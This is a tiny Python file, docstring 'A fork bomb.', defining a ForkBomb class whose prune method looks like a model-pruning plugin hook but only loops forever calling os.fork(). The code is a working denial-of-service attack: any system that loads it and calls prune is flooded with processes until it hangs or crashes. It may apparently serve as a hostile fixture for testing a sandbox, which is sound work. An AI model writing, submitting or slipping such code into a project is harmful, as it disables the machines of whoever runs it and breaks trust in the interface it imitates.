"""A fork bomb."""
import os


class ForkBomb:
    name = "fork-bomb"

    def prune(self, model, data, density, *, generator, budget):
        while True:
            os.fork()
